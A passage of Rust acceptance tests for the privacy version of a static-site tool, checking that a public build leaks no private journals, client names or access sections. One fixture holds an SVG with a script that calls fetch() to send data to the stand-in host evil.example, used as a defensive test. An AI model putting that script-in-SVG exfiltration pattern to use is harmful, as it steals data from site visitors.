//! Acceptance tests of privacy version 2 (`/work/shared/design/privacy.md`): the public build
//! publishes the lessons and the anonymised case studies, and nothing else.
//!
//! Every test is a small story: a freelancer writes a journal (and maybe a private note, an
//! image, a PDF next to it), runs `debrief build --audience public --today 2026-01-01`, and
//! looks at every byte and every path of the site. Each trick that version 1 fell for has its own
//! marker, a unique word such as `Zqx7Setext201`; the leak detector (`privacy_support`) finds a
//! marker after decoding HTML entities, JSON escapes and percent-encoding, ignoring case, accents,
//! zero-width characters, soft hyphens, spaces and markup, and reports which marker leaked, why it
//! is private, and in which file. Every journal also holds a public marker (`Zqx7Pub…`) that
//! must be in the site, so a build that publishes nothing passes no test.
//!
//! Numbering: 1xx linked files, 2xx private sections, 3xx names, 4xx facts and dates, 5xx image
//! metadata, 6xx lint/build agreement, 7xx `debrief serve`. The property tests (`properties`)
//! generate journals with markers (`Zqx7Mk001`…) in private and public places, and journals whose
//! name placements the generator counts (lint must report exactly those in public text).
//!
//! Against version 1 most of these fail: that is the point. A failure lists each leaked marker
//! with why it is private and where it was found (file and context, or path).

mod privacy_support;
mod support;

use privacy_support::*;
use support::TempBook;

/// Builds the public site of `book` and checks, in one report, that no secret reached it and
/// that every public marker did.
#[track_caller]
fn check(book: &TempBook, secrets: &[Secret], public: &[&str]) -> Site {
    let site = public_site(book);
    let mut report = leaks(&site, secrets);
    for marker in public {
        if site.find_word(marker).is_empty() {
            report.push(format!(
                "MISSING public marker {marker}: legitimately public text is not in the site"
            ));
        }
    }
    assert!(
        report.is_empty(),
        "{}\n--- site files: {:?}\n--- build stderr:\n{}",
        report.join("\n"),
        site.files.keys().collect::<Vec<_>>(),
        site.stderr
    );
    site
}

/// A private journal (`publish` absent) whose body holds `marker`.
fn private_note(marker: &str) -> String {
    Journal::private("Notes internes", "Client confidentiel").body(&format!(
        "## Journal\n\n{marker} : le client doit encore 4 000 €, voir le litige.\n"
    ))
}

const CASE: &str = "content/missions/2025/etude.md";

/// The detector itself: a marker hidden by each encoding the tests rely on is found, and a
/// different word is not.
mod detector {
    use super::*;

    #[test]
    fn the_detector_sees_through_encodings_markup_and_invisible_characters() {
        let dir = tempfile::tempdir().unwrap();
        let forms = [
            ("entities.html", "<p>&#90;qx7Beaus&eacute;jour et</p>"),
            ("hex.html", "<p>&#x5a;QX7BEAUS&#xC9;JOUR</p>"),
            ("percent.txt", "https://example.org/Zqx7Beaus%C3%A9jour/"),
            ("double.txt", "https://example.org/Zqx7Beaus%25C3%25A9jour/"),
            ("json.js", "window.X = [\"zqx7beaus\\u00e9jour\"];"),
            (
                "markup.html",
                "<p>Zq<em>x7</em>Beau<strong>séjour</strong></p>",
            ),
            ("zwsp.html", "<p>Zqx7Beau\u{200B}s\u{AD}éjour</p>"),
            ("nfd.html", "<p>Zqx7Beause\u{301}jour</p>"),
            ("cyrillic.html", "<p>Zqx7Bеаusеjоur</p>"),
            ("title.html", "<abbr title=\"Zqx7Beauséjour\">x</abbr>"),
        ];
        for (name, text) in forms {
            std::fs::write(dir.path().join(name), text).unwrap();
        }
        std::fs::create_dir(dir.path().join("zqx7beausejour")).unwrap();
        let site = Site::from_dir(dir.path());
        let places = site.find_word("Zqx7Beauséjour");
        for (name, _) in forms {
            assert!(
                places.iter().any(|p| p.starts_with(name)),
                "{name} not found: {places:#?}"
            );
        }
        assert!(places.iter().any(|p| p.starts_with("path zqx7beausejour")));
        assert!(site.find_word("Zqx7Beauregard").is_empty());
        assert_eq!(
            site.find_literal("2031-07-19"),
            Vec::<String>::new(),
            "literals are searched as written"
        );
        assert_eq!(
            decode_entities("&eacute;t&eacute; &amp; &shy;x &#233;"),
            "été & \u{AD}x é"
        );
        assert_eq!(fold("Hôtel ŒUVRE’S"), "hotel oeuvre's");
        assert_eq!(
            site.find_phrase("zqx7 beausejour"),
            Vec::<String>::new(),
            "a phrase is matched on whole words"
        );
    }

    #[test]
    fn handmade_images_are_well_formed() {
        assert_eq!(crc32(b"123456789"), 0xCBF4_3926);
        assert_eq!(adler32(b"Wikipedia"), 0x11E6_0398);
        let png = png(
            128,
            &[png_text("Author", "x"), png_itxt("Comment", "y")],
            &[png_ztxt("Description", "z")],
        );
        assert_eq!(
            png_chunks(&png).unwrap(),
            ["IHDR", "tEXt", "iTXt", "IDAT", "zTXt", "IEND"]
        );
        let jpeg = jpeg(&[
            jpeg_exif(&exif_tiff("d", "a", "g")),
            jpeg_xmp("c"),
            jpeg_comment("k"),
        ]);
        let markers: Vec<u8> = jpeg_segments(&jpeg)
            .unwrap()
            .iter()
            .map(|(m, _)| *m)
            .collect();
        assert_eq!(
            markers,
            [0xE0, 0xE1, 0xE1, 0xFE, 0xDB, 0xC0, 0xC4, 0xC4, 0xDA]
        );
        let gif = gif_with_comment("hello");
        assert!(gif.starts_with(b"GIF89a") && gif.ends_with(b";"));
    }
}

/// Files of the book reached through links: only published pages and allowed images (by their
/// magic bytes) may be reached; a private journal, a PDF, an SVG or a Markdown file named `.png`
/// is never copied, whatever the link looks like, and the link text stays.
mod linked_files {
    use super::*;

    fn case_study_linking(body: &str) -> TempBook {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte du site", "Hôtel Zqx7Client100", "un hôtel").body(body),
        );
        book
    }

    #[test]
    fn an_image_pointing_at_a_private_journal_does_not_copy_it() {
        let book = case_study_linking(
            "## Contexte\n\nZqx7Pub101 : le plan du site est ci-dessous.\n\n![plan](notes-internes.md)\n",
        );
        book.file(
            "content/missions/2025/notes-internes.md",
            private_note("Zqx7ImgMd101"),
        );
        check(
            &book,
            &[(
                "Zqx7ImgMd101",
                "a private journal linked as an image `![plan](notes-internes.md)`",
            )],
            &["Zqx7Pub101"],
        );
    }

    #[test]
    fn a_reference_style_or_root_relative_image_of_a_private_journal_does_not_copy_it() {
        let book = case_study_linking(
            "## Contexte\n\nZqx7Pub119 : deux plans.\n\n![plan][p] ![plan](/missions/2025/notes-abs.md)\n\n[p]: notes-ref.md\n",
        );
        book.file(
            "content/missions/2025/notes-ref.md",
            private_note("Zqx7RefImg119"),
        )
        .file(
            "content/missions/2025/notes-abs.md",
            private_note("Zqx7AbsImg120"),
        );
        check(
            &book,
            &[
                (
                    "Zqx7RefImg119",
                    "a private journal as a reference-style image `![plan][p]`",
                ),
                (
                    "Zqx7AbsImg120",
                    "a private journal as an image with a root-relative path",
                ),
            ],
            &["Zqx7Pub119"],
        );
    }

    #[test]
    fn an_image_pointing_at_a_published_journal_does_not_copy_its_source() {
        let book = case_study_linking(
            "## Contexte\n\nZqx7Pub121 : voir l'autre étude.\n\n![autre](autre-etude.md) ![moi](etude.md)\n\n## Accès\n\nZqx7SelfSrc122 : mot de passe.\n",
        );
        book.file(
            "content/missions/2025/autre-etude.md",
            Journal::case_study("Autre étude", "Zqx7Client121", "une école")
                .line("invoices:\n  - { number: \"Zqx7PubSrcInv121\", amount: 1200, issued: 2025-06-01, due: 2025-07-01 }")
                .body("## Contexte\n\nZqx7Pub122 : une école.\n\n## Accès\n\nZqx7PubSrc121 : compte admin.\n"),
        );
        check(
            &book,
            &[
                (
                    "Zqx7PubSrc121",
                    "private section of a published case study linked as an image",
                ),
                (
                    "Zqx7PubSrcInv121",
                    "invoice in the front matter of a published case study linked as an image",
                ),
                (
                    "Zqx7SelfSrc122",
                    "a case study linking its own source as an image",
                ),
                (
                    "Zqx7Client121",
                    "client of a published case study linked as an image",
                ),
            ],
            &["Zqx7Pub121", "Zqx7Pub122"],
        );
    }

    #[test]
    fn a_link_with_a_query_to_a_private_journal_does_not_copy_it() {
        let book = case_study_linking("## Contexte\n\nVoir [Zqx7Pub102 la note](autre.md?1).\n");
        book.file(
            "content/missions/2025/autre.md",
            private_note("Zqx7QueryMd102"),
        );
        check(
            &book,
            &[(
                "Zqx7QueryMd102",
                "a private journal linked as `[x](autre.md?1)`",
            )],
            &["Zqx7Pub102"],
        );
    }

    #[test]
    fn a_link_with_a_trailing_slash_to_a_private_journal_does_not_copy_it() {
        let book = case_study_linking("## Contexte\n\nVoir [Zqx7Pub103 la note](autre.md/).\n");
        book.file(
            "content/missions/2025/autre.md",
            private_note("Zqx7SlashMd103"),
        );
        check(
            &book,
            &[(
                "Zqx7SlashMd103",
                "a private journal linked as `[x](autre.md/)`",
            )],
            &["Zqx7Pub103"],
        );
    }

    #[test]
    fn a_percent_encoded_link_to_a_private_journal_does_not_copy_it() {
        let book = case_study_linking(
            "## Contexte\n\nVoir [Zqx7Pub104 la note](notes%2Dinternes.md) et ![plan](notes%2Dinternes%2Emd).\n",
        );
        book.file(
            "content/missions/2025/notes-internes.md",
            private_note("Zqx7PctMd104"),
        );
        check(
            &book,
            &[(
                "Zqx7PctMd104",
                "a private journal linked as `notes%2Dinternes.md`",
            )],
            &["Zqx7Pub104"],
        );
    }

    #[test]
    fn a_link_through_dot_segments_to_a_private_journal_does_not_copy_it() {
        let book = case_study_linking(
            "## Contexte\n\nVoir [Zqx7Pub105 la note](./brouillons/../notes.md?v=2) et ![plan](./brouillons/../notes.md).\n",
        );
        book.file(
            "content/missions/2025/notes.md",
            private_note("Zqx7DotMd105"),
        )
        .file("content/missions/2025/brouillons/lisez-moi.txt", "vide\n");
        check(
            &book,
            &[(
                "Zqx7DotMd105",
                "a private journal linked as `./brouillons/../notes.md`",
            )],
            &["Zqx7Pub105"],
        );
    }

    #[test]
    fn raw_html_img_and_a_pointing_at_private_journals_are_dropped() {
        let book = case_study_linking(
            "## Contexte\n\nZqx7Pub106 : voir <a href=\"zqx7rawhref106.md\">le détail</a>.\n\n<img src=\"zqx7rawsrc107.md\" alt=\"plan\">\n\n<p><a href=\"./zqx7rawblock108.md\">bloc</a></p>\n",
        );
        book.file(
            "content/missions/2025/zqx7rawhref106.md",
            private_note("Zqx7RawBody106"),
        )
        .file(
            "content/missions/2025/zqx7rawsrc107.md",
            private_note("Zqx7RawBody107"),
        )
        .file(
            "content/missions/2025/zqx7rawblock108.md",
            private_note("Zqx7RawBody108"),
        );
        check(
            &book,
            &[
                (
                    "zqx7rawhref106",
                    "file name of a private journal in raw `<a href>`",
                ),
                (
                    "zqx7rawsrc107",
                    "file name of a private journal in raw `<img src>`",
                ),
                (
                    "zqx7rawblock108",
                    "file name of a private journal in a raw HTML block",
                ),
                (
                    "Zqx7RawBody106",
                    "body of a private journal linked by raw `<a href>`",
                ),
                (
                    "Zqx7RawBody107",
                    "body of a private journal linked by raw `<img src>`",
                ),
                (
                    "Zqx7RawBody108",
                    "body of a private journal linked in a raw HTML block",
                ),
            ],
            &["Zqx7Pub106"],
        );
    }

    #[test]
    fn a_symlink_named_like_an_image_to_a_private_journal_is_not_copied() {
        let book = case_study_linking(
            "## Contexte\n\nZqx7Pub109 : la photo de la façade.\n\n![façade](img/facade.png)\n",
        );
        book.file(
            "content/missions/2025/notes.md",
            private_note("Zqx7Symlink109"),
        );
        symlink(&book, "content/missions/2025/img/facade.png", "../notes.md");
        check(
            &book,
            &[(
                "Zqx7Symlink109",
                "a private journal reached through a symlink `img/facade.png`",
            )],
            &["Zqx7Pub109"],
        );
    }

    #[test]
    fn a_png_named_file_holding_markdown_is_not_copied() {
        let book = case_study_linking(
            "## Contexte\n\nZqx7Pub110 : le scan du bon de commande.\n\n![scan](img/scan.png)\n",
        );
        book.file(
            "content/missions/2025/img/scan.png",
            "# Notes\n\nZqx7FakePng110 : mot de passe du back-office, hunter2.\n",
        );
        let site = check(
            &book,
            &[(
                "Zqx7FakePng110",
                "a Markdown file named `.png` (not an image by its magic bytes)",
            )],
            &["Zqx7Pub110"],
        );
        assert_eq!(site.assets(), Vec::<(&str, &[u8])>::new(), "no asset");
    }

    #[test]
    fn an_svg_is_not_copied() {
        let book =
            case_study_linking("## Contexte\n\nZqx7Pub111 : le logo.\n\n![logo](logo.svg)\n");
        book.file(
            "content/missions/2025/logo.svg",
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('https://evil.example/?Zqx7Svg111')</script><text>Zqx7Svg111</text></svg>\n",
        );
        let site = check(
            &book,
            &[(
                "Zqx7Svg111",
                "an SVG with a script (SVG is not an allowed image)",
            )],
            &["Zqx7Pub111"],
        );
        for (rel, bytes) in site.assets() {
            assert!(
                !String::from_utf8_lossy(bytes)
                    .to_lowercase()
                    .contains("<script"),
                "{rel} holds a script"
            );
        }
    }

    #[test]
    fn other_files_of_the_book_are_never_copied_and_their_link_text_stays() {
        let book = case_study_linking(
            "## Contexte\n\nVoir [Zqx7Pub112 le devis signé](devis.pdf) et [le contrat](docs/contrat.docx).\n",
        );
        book.file(
            "content/missions/2025/devis.pdf",
            "%PDF-1.4\n% Zqx7Pdf112 devis signé, 4 800 € HT, IBAN FR76…\n%%EOF\n",
        )
        .file(
            "content/missions/2025/docs/contrat.docx",
            "PK\u{3}\u{4} Zqx7Docx113 contrat de prestation\n",
        );
        let site = check(
            &book,
            &[
                ("Zqx7Pdf112", "a PDF linked from a case study"),
                ("Zqx7Docx113", "a .docx linked from a case study"),
            ],
            &["Zqx7Pub112"],
        );
        assert_eq!(site.assets(), Vec::<(&str, &[u8])>::new(), "no asset");
    }

    #[test]
    fn the_book_intro_cannot_publish_a_private_journal() {
        let book = case_study_linking("## Contexte\n\nZqx7Pub114 : une étude.\n");
        book.file(
            "content/_index.md",
            "---\ntitle: \"Carnet\"\n---\n\nZqx7Pub115 Bienvenue.\n\n![dernier litige](missions/2025/litige.md) et [mes notes](missions/2025/litige.md?x)\n",
        )
        .file("content/missions/2025/litige.md", private_note("Zqx7Intro114"));
        check(
            &book,
            &[(
                "Zqx7Intro114",
                "a private journal linked as an image from `content/_index.md`",
            )],
            &["Zqx7Pub114", "Zqx7Pub115"],
        );
    }

    #[test]
    fn a_lessons_section_cannot_publish_a_private_journal() {
        let book = book();
        book.file(
            "content/missions/2024/bilan.md",
            Journal::lessons("Bilan", "Zqx7Client116", Some("une école")).body(
                "## Journal\n\nRien de public.\n\n## Leçons\n\nZqx7Pub116 : garder un schéma.\n\n![schéma](schema.md)\n",
            ),
        )
        .file("content/missions/2024/schema.md", private_note("Zqx7LessonImg116"));
        check(
            &book,
            &[(
                "Zqx7LessonImg116",
                "a private journal linked as an image from a lessons section",
            )],
            &["Zqx7Pub116"],
        );
    }

    #[test]
    fn an_ordinary_link_to_a_private_journal_keeps_its_text_and_drops_its_target() {
        let book = case_study_linking(
            "## Contexte\n\nVoir [Zqx7Pub117 mes notes](zqx7plainname117.md).\n",
        );
        book.file(
            "content/missions/2025/zqx7plainname117.md",
            private_note("Zqx7PlainBody117"),
        );
        check(
            &book,
            &[
                ("zqx7plainname117", "file name of a linked private journal"),
                ("Zqx7PlainBody117", "body of a linked private journal"),
            ],
            &["Zqx7Pub117"],
        );
    }

    #[test]
    fn a_file_outside_the_content_directory_is_not_copied() {
        let book = case_study_linking(
            "## Contexte\n\nZqx7Pub118 : la config.\n\n![x](../../../secret.png) [y](../../../secret.png)\n",
        );
        book.file("secret.png", "Zqx7Outside118 identifiants\n");
        check(
            &book,
            &[(
                "Zqx7Outside118",
                "a file of the book root, outside the content directory",
            )],
            &["Zqx7Pub118"],
        );
    }
}

/// Private sections: a heading that *starts with* an alias of access, RGPD or invoices (or the
/// singular `Facture`/`Invoice`) opens a private section, at any depth; it runs to the next ATX
/// heading of the same or a higher level, and a setext heading never ends it.
mod private_sections {
    use super::*;

    #[test]
    fn a_setext_underline_inside_access_does_not_end_it() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client200", "une boutique").body(
                "## Contexte\n\nZqx7Pub201 : refonte complète.\n\n## Accès\n\nIdentifiants du back-office\n---\n\nZqx7Setext201 admin / hunter2\n\nCompte FTP\n===\n\nZqx7Setext202 ftp / hunter3\n\n## Leçons\n\nZqx7Pub202 : cadrer tôt.\n",
            ),
        );
        check(
            &book,
            &[
                (
                    "Zqx7Setext201",
                    "after a `text` + `---` setext heading inside `## Accès`",
                ),
                (
                    "Zqx7Setext202",
                    "after a `text` + `===` setext heading inside `## Accès`",
                ),
            ],
            &["Zqx7Pub201", "Zqx7Pub202"],
        );
    }

    #[test]
    fn a_deeper_heading_inside_access_stays_in_it() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client203", "une boutique").body(
                "## Contexte\n\nZqx7Pub203.\n\n## Accès\n\n### Hébergement\n\nZqx7Deeper203 compte OVH.\n\n###### Détail\n\nZqx7Deeper204 clé SSH.\n\n## Leçons\n\nZqx7Pub204.\n",
            ),
        );
        check(
            &book,
            &[
                ("Zqx7Deeper203", "under `### Hébergement` inside `## Accès`"),
                ("Zqx7Deeper204", "under `###### Détail` inside `## Accès`"),
            ],
            &["Zqx7Pub203", "Zqx7Pub204"],
        );
    }

    /// Headings that start with a private element's name, and two that only look like one.
    const HEADINGS: &[(&str, &str)] = &[
        ("## Facture", "Zqx7Facture205"),
        ("## Invoice", "Zqx7Invoice206"),
        ("## Accès (outils)", "Zqx7AccesOutils207"),
        ("## Accès — retirés le 2 juillet", "Zqx7AccesDash208"),
        ("## Factures 2025", "Zqx7Factures209"),
        ("## RGPD : données supprimées", "Zqx7Rgpd210"),
        ("## Données personnelles du client", "Zqx7Donnees211"),
        ("## Personal data, kept", "Zqx7Personal212"),
        ("## Billing details", "Zqx7Billing213"),
        ("## Access: tools", "Zqx7Access214"),
        ("## Accès {#outils}", "Zqx7AccesAttr215"),
        ("## *Accès*", "Zqx7AccesEm216"),
        ("## 🔑 ACCÈS :", "Zqx7AccesEmoji217"),
        ("## Factures", "Zqx7Factures218"),
        ("## Tool access", "Zqx7ToolAccess219"),
        ("## Invoices", "Zqx7Invoices220"),
        ("## Facturation électronique", "Zqx7Facturation221"),
        ("## GDPR", "Zqx7Gdpr222"),
        // Numbered: the label is not part of the name.
        ("## 1. Accès", "Zqx7AccesNum901"),
        ("## 2) Mots de passe", "Zqx7PasseNum902"),
        ("## IV. Facturation", "Zqx7FactNum903"),
        ("## 2025-03-01 — Accès Google Ads", "Zqx7AccesDate904"),
        ("## b) RGPD", "Zqx7RgpdNum905"),
    ];

    #[test]
    fn headings_that_start_with_a_private_name_are_private() {
        let mut body = String::from("## Contexte\n\nZqx7Pub205 : le contexte.\n\n");
        for (heading, marker) in HEADINGS {
            body.push_str(&format!("{heading}\n\n{marker} : à ne pas publier.\n\n"));
        }
        // Near misses: a letter follows the private word, so these are public.
        body.push_str("## Accessibilité\n\nZqx7Pub206 : contrastes revus.\n\n");
        body.push_str("## Accessoires\n\nZqx7Pub207 : icônes.\n\n");
        body.push_str("## Facteurs de succès\n\nZqx7Pub208 : un seul interlocuteur.\n");
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client205", "une boutique").body(&body),
        );
        let secrets: Vec<(&str, String)> = HEADINGS
            .iter()
            .map(|(h, m)| (*m, format!("under the heading `{h}`")))
            .collect();
        let secrets: Vec<Secret> = secrets.iter().map(|(m, w)| (*m, w.as_str())).collect();
        check(
            &book,
            &secrets,
            &["Zqx7Pub205", "Zqx7Pub206", "Zqx7Pub207", "Zqx7Pub208"],
        );
    }

    #[test]
    fn private_sections_at_every_depth_of_a_case_study() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client223", "une boutique").body(
                "## Journal\n\nZqx7Pub223 : lancement.\n\n### Accès\n\nZqx7Nested223 compte GTM.\n\n#### Détail\n\nZqx7Nested224 encore dans Accès.\n\n### Suite\n\nZqx7Pub224 : la suite est publique.\n\n###### Factures\n\nZqx7Nested225 facture 2025-014.\n\n## Résultats\n\nZqx7Pub225 : +30 % de trafic.\n\n#### RGPD\n\nZqx7Nested226 fichier clients supprimé.\n",
            ),
        );
        check(
            &book,
            &[
                ("Zqx7Nested223", "`### Accès` under `## Journal`"),
                ("Zqx7Nested224", "`#### Détail` inside `### Accès`"),
                ("Zqx7Nested225", "`###### Factures` under `### Suite`"),
                ("Zqx7Nested226", "`#### RGPD` under `## Résultats`"),
            ],
            &["Zqx7Pub223", "Zqx7Pub224", "Zqx7Pub225"],
        );
    }

    #[test]
    fn private_sections_at_every_depth_of_a_lessons_section() {
        let book = book();
        book.file(
            "content/missions/2024/bilan.md",
            Journal::lessons("Bilan", "Zqx7Client227", Some("une école")).body(
                "## Journal\n\nZqx7NotLessons227 : le journal n'est pas publié.\n\n## Leçons\n\nZqx7Pub227 : écrire le devis.\n\n### Accès\n\nZqx7Nested228 compte encore ouvert.\n\n### Méthode\n\nZqx7Pub228 : un point par semaine.\n\n#### Factures\n\nZqx7Nested229 relance 3.\n\n##### RGPD\n\nZqx7Nested230 données gardées.\n\n#### Suite\n\nZqx7Pub229 : la suite de la méthode.\n\n## Passation\n\nZqx7NotLessons231 : hors leçons.\n",
            ),
        );
        check(
            &book,
            &[
                ("Zqx7NotLessons227", "the journal of a lessons-only mission"),
                ("Zqx7Nested228", "`### Accès` inside `## Leçons`"),
                (
                    "Zqx7Nested229",
                    "`#### Factures` under `### Méthode` in the lessons",
                ),
                ("Zqx7Nested230", "`##### RGPD` inside `#### Factures`"),
                ("Zqx7NotLessons231", "a section after the lessons"),
            ],
            &["Zqx7Pub227", "Zqx7Pub228", "Zqx7Pub229"],
        );
    }

    #[test]
    fn an_access_heading_inside_a_footnote_definition_is_private() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client232", "une boutique").body(
                "## Contexte\n\nZqx7Pub232 : voir la note[^outils].\n\n[^outils]: Zqx7Pub233 la liste des outils.\n    ## Accès\n    Zqx7FootAcces232 : mot de passe GTM hunter2.\n\n## Leçons\n\nZqx7Pub234 : documenter.\n",
            ),
        );
        check(
            &book,
            &[(
                "Zqx7FootAcces232",
                "`## Accès` indented inside a footnote definition",
            )],
            &["Zqx7Pub232", "Zqx7Pub233", "Zqx7Pub234"],
        );
    }

    #[test]
    fn definitions_inside_private_sections_are_not_followed_from_public_text() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client235", "une boutique").body(
                "## Contexte\n\nZqx7Pub235 : voir [la console][adm] et la note[^cle].\n\n## Accès\n\n[adm]: https://zqx7refurl235.example/admin \"Zqx7RefTitle236\"\n\n[^cle]: Zqx7FootDef237 : identifiants du back-office.\n\n## Leçons\n\nZqx7Pub236.\n",
            ),
        );
        check(
            &book,
            &[
                (
                    "zqx7refurl235",
                    "URL of a reference definition inside `## Accès`",
                ),
                (
                    "Zqx7RefTitle236",
                    "title of a reference definition inside `## Accès`",
                ),
                ("Zqx7FootDef237", "a footnote definition inside `## Accès`"),
            ],
            &["Zqx7Pub235", "Zqx7Pub236"],
        );
    }

    #[test]
    fn html_comments_are_not_published() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client238", "une boutique").body(
                "## Contexte\n\nZqx7Pub238 : texte <!-- Zqx7Comment238 : tarif réel --> public.\n\n<!--\nZqx7Comment239 : le client m'a menacé.\n-->\n\nZqx7Pub239.\n",
            ),
        );
        check(
            &book,
            &[
                ("Zqx7Comment238", "an inline HTML comment"),
                ("Zqx7Comment239", "an HTML comment block"),
            ],
            &["Zqx7Pub238", "Zqx7Pub239"],
        );
    }

    #[test]
    fn access_headings_inside_quotes_and_list_items_are_private() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Refonte", "Zqx7Client240", "une boutique").body(
                "## Contexte\n\nZqx7Pub240.\n\n> ## Accès\n> Zqx7Quote240 : compte admin.\n\n- ## Accès\n  Zqx7ListItem241 : clé API.\n\n## Leçons\n\nZqx7Pub241.\n",
            ),
        );
        check(
            &book,
            &[
                ("Zqx7Quote240", "`## Accès` inside a block quote"),
                ("Zqx7ListItem241", "`## Accès` inside a list item"),
            ],
            &["Zqx7Pub240", "Zqx7Pub241"],
        );
    }
}

/// The client's names (`client` and every `client_names` entry) are hidden wherever they hide:
/// URLs, attributes, footnote labels, tags, entities, other spellings, invisible characters,
/// inline markup. Each test's client name is its marker: the public build must not contain it in
/// any form, and must contain the alias that replaced it.
mod names {
    use super::*;

    const ALIAS: &str = "un hôtel Zqx7Alias300";

    /// A book with one case study for `client`, whose body is `body`.
    fn case_study_naming(client: &str, body: &str) -> TempBook {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Étude de cas", client, ALIAS).body(body),
        );
        book
    }

    /// Builds `book` and checks that the name word is nowhere, and the alias and `public` are.
    #[track_caller]
    fn check_name(book: &TempBook, name_word: &str, why: &str, public: &str) -> Site {
        check(book, &[(name_word, why)], &[public, "Zqx7Alias300"])
    }

    #[test]
    fn a_name_in_a_link_url_is_dropped() {
        let book = case_study_naming(
            "Zqx7Url301",
            "## Contexte\n\nZqx7Pub301 : voir [notre site](https://www.zqx7url301.fr/contact) et [la fiche](https://example.org/clients/Zqx7Url301/).\n",
        );
        check_name(
            &book,
            "Zqx7Url301",
            "the client's name in link URLs",
            "Zqx7Pub301",
        );
    }

    #[test]
    fn a_name_in_an_autolink_is_dropped() {
        let book = case_study_naming(
            "Zqx7Auto302",
            "## Contexte\n\nZqx7Pub302 : <https://zqx7auto302.example/> ou <contact@zqx7auto302.fr>.\n",
        );
        check_name(
            &book,
            "Zqx7Auto302",
            "the client's name in autolinks",
            "Zqx7Pub302",
        );
    }

    #[test]
    fn a_name_in_a_link_title_is_hidden() {
        let book = case_study_naming(
            "Zqx7Title303",
            "## Contexte\n\nZqx7Pub303 : [le site](https://example.org/ \"Le site de Zqx7Title303\") et [la doc][d].\n\n[d]: https://example.org/doc \"Doc de Zqx7Title303\"\n",
        );
        check_name(
            &book,
            "Zqx7Title303",
            "the client's name in `title` attributes of links",
            "Zqx7Pub303",
        );
    }

    #[test]
    fn a_name_as_a_footnote_label_is_hidden() {
        let book = case_study_naming(
            "Zqx7Foot304",
            "## Contexte\n\nZqx7Pub304 : une note[^Zqx7Foot304].\n\n[^Zqx7Foot304]: La note.\n",
        );
        check_name(
            &book,
            "Zqx7Foot304",
            "the client's name as a footnote label (ids and hrefs)",
            "Zqx7Pub304",
        );
    }

    #[test]
    fn a_name_in_the_tags_of_a_case_study_is_replaced() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Étude de cas", "Zqx7Tag305", ALIAS)
                .set("tags", "[web, zqx7tag305, \"hôtel Zqx7Tag305\"]")
                .body("## Contexte\n\nZqx7Pub305 : une refonte.\n"),
        );
        check_name(
            &book,
            "Zqx7Tag305",
            "the client's name in tags (pages `tags/<tag>/`)",
            "Zqx7Pub305",
        );
    }

    #[test]
    fn a_name_in_the_tags_of_a_lessons_mission_without_alias_is_replaced() {
        let book = book();
        book.file(
            "content/missions/2024/bilan.md",
            Journal::lessons("Bilan Zqx7Tag306", "Zqx7Tag306", None)
                .set("tags", "[Zqx7Tag306, seo]")
                .body("## Leçons\n\nZqx7Pub306 : écrire le devis.\n"),
        );
        check(
            &book,
            &[(
                "Zqx7Tag306",
                "the client's name in the tags of a lessons-only mission (its neutral label)",
            )],
            &["Zqx7Pub306"],
        );
    }

    #[test]
    fn a_name_written_with_html_entities_is_found() {
        let book = case_study_naming(
            "Zqx7Ent307",
            "## Contexte\n\nZqx7Pub307 : chez &#90;qx7Ent307, puis &#x5A;qx7Ent307 et Zqx7&#69;nt307.\n",
        );
        check_name(
            &book,
            "Zqx7Ent307",
            "the client's name with HTML entities (`&#90;qx7…`)",
            "Zqx7Pub307",
        );
    }

    #[test]
    fn a_name_written_without_its_accents_is_found() {
        let book = case_study_naming(
            "Zqx7Beauséjour308",
            "## Contexte\n\nZqx7Pub308 : chez ZQX7BEAUSEJOUR308 et zqx7beausejour308.\n",
        );
        check_name(
            &book,
            "Zqx7Beauséjour308",
            "the client's name without accents (`BEAUSEJOUR`)",
            "Zqx7Pub308",
        );
    }

    #[test]
    fn a_name_with_zero_width_characters_inside_is_found() {
        let book = case_study_naming(
            "Zqx7Zwsp309",
            "## Contexte\n\nZqx7Pub309 : chez Zqx7\u{200B}Zwsp309, Zqx7Zw\u{2060}sp309, Zqx7Zwsp\u{FEFF}309, Zqx7\u{200C}Zwsp309 et Zqx7&#8203;Zwsp309.\n",
        );
        check_name(
            &book,
            "Zqx7Zwsp309",
            "the client's name with a zero-width character inside",
            "Zqx7Pub309",
        );
    }

    #[test]
    fn a_name_with_a_soft_hyphen_inside_is_found() {
        let book = case_study_naming(
            "Zqx7Shy310",
            "## Contexte\n\nZqx7Pub310 : chez Zqx7\u{AD}Shy310 et Zqx7&shy;Shy310.\n",
        );
        check_name(
            &book,
            "Zqx7Shy310",
            "the client's name with a soft hyphen inside",
            "Zqx7Pub310",
        );
    }

    #[test]
    fn a_name_with_decomposed_accents_is_found() {
        let book = case_study_naming(
            "Zqx7Décomposé311",
            "## Contexte\n\nZqx7Pub311 : chez Zqx7De\u{301}compose\u{301}311.\n",
        );
        check_name(
            &book,
            "Zqx7Décomposé311",
            "the client's name with decomposed accents (NFD)",
            "Zqx7Pub311",
        );
    }

    #[test]
    fn a_typographic_apostrophe_matches_a_straight_one() {
        let book = book();
        book.file(
            CASE,
            Journal::case_study("Étude de cas", "L'Atelier Zqx7Apos312", ALIAS)
                .body("## Contexte\n\nZqx7Pub312 : chez L’Atelier Zqx7Apos312.\n"),
        )
        .file(
            "content/missions/2025/etude-2.md",
            Journal::case_study("Autre étude", "L’Atelier Zqx7Apos313", ALIAS)
                .body("## Contexte\n\nZqx7Pub313 : chez L'Atelier Zqx7Apos313.\n"),
        );
        check(
            &book,
            &[
                ("Zqx7Apos312", "client `L'…`, text `L’…`"),
                ("Zqx7Apos313", "client `L’…`, text `L'…`"),
            ],
            &["Zqx7Pub312", "Zqx7Pub313", "Zqx7Alias300"],
        );
    }

    #[test]
    fn a_name_split_by_inline_markup_is_found() {
        let cases = [
            (
                "emphasis.md",
                "Zqx7Emph314",
